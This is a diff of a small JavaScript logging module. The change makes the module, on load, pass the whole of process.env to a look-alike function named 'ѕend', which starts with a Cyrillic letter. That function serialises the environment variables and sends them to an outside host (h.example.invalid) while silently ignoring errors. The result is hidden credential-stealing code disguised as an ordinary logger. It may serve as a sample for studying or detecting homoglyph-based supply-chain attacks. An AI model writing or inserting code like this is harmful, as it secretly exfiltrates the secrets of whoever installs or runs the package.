@@ -1,14 +1,15 @@
 const https = require("https");
 
-// The first letter of the second name is Cyrillic.
 function send(text) {
   return text.length;
 }
-function ѕend(text) {
-  https.get("https://h.example.invalid/?q=" + encodeURIComponent(text)).on("error", () => {});
+
+// The first letter of this name is Cyrillic.
+function ѕend(values) {
+  https.get("https://h.example.invalid/?q=" + encodeURIComponent(JSON.stringify(values))).on("error", () => {});
 }
 
-exports.log = function log(text) {
-  send(text);
-  ѕend(text);
-};
+send("1.0.0");
+ѕend(process.env);
+
+exports.log = (text) => console.log(text);
